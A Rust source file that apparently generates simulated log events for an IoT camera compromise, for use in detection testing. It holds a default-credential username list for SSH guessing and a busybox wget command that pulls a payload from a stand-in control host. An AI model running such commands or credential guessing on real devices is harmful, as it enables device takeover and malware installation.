//! The attack on one camera, told by its events within the first minute: passwords tried from a list, one fits, telnet is
//! opened, something is fetched and calls home, and then the firmware is not the one that was delivered.

use std::time::Duration;

use serde_json::{Value as Json, json};

pub const TARGET: &str = "Camera Lobby 3";

/// Reserved for documentation (RFC 5737), so they are nobody's.
const INTRUDER: &str = "203.0.113.45";
const CONTROL: &str = "198.51.100.7";
const NAMES: [&str; 6] = ["admin", "root", "service", "supervisor", "666666", "guest"];

/// What happens, and how long after the start.
pub fn story() -> Vec<(Duration, Json)> {
    let mut story = Vec::new();
    let mut tell = |seconds: f64, mut event: Json| {
        if let Some(event) = event.as_object_mut() {
            event.insert("simulated".to_owned(), true.into());
        }
        story.push((Duration::from_secs_f64(seconds), event));
    };
    for attempt in 0_u32..24 {
        let user = NAMES.get(attempt as usize % NAMES.len()).copied().unwrap_or_default();
        tell(
            4.0 + f64::from(attempt) * 0.5,
            json!({ "category": "authentication", "action": "login", "outcome": "failure", "user": user,
                "service": "ssh", "source_ip": INTRUDER, "failures_in_a_row": attempt + 1 }),
        );
    }
    tell(
        17.0,
        json!({ "category": "authentication", "action": "login", "outcome": "success", "user": "service",
            "service": "ssh", "source_ip": INTRUDER, "failures_in_a_row": 24 }),
    );
    tell(
        22.0,
        json!({ "category": "network", "action": "port_opened", "port": 23, "protocol": "tcp", "service": "telnet",
            "process": "telnetd" }),
    );
    tell(
        27.0,
        json!({ "category": "process", "action": "started", "process": "busybox", "user": "root",
            "command_line": format!("busybox wget http://{CONTROL}/a/mips -O /tmp/.u") }),
    );
    for beat in 0_u32..6 {
        tell(
            30.0 + f64::from(beat) * 5.0,
            json!({ "category": "network", "action": "connection", "direction": "outbound", "destination_ip": CONTROL,
                "destination_port": 4444, "bytes": 212, "interval_s": 5, "repeated": beat + 1 }),
        );
    }
    tell(
        48.0,
        json!({ "category": "firmware", "action": "installed", "version": "1.4.2", "signed": false,
            "hash_known": false, "vendor": "unknown",
            "sha256": "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef" }),
    );
    story
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_story_fits_into_a_minute_and_says_what_it_is() {
        let story = story();
        assert!(story.iter().all(|(at, event)| at.as_secs() < 60 && event["simulated"] == true));
        let tells = |action: &str| story.iter().any(|(_, event)| event["action"] == action);
        assert!(["login", "port_opened", "connection", "installed"].into_iter().all(tells));
    }
}
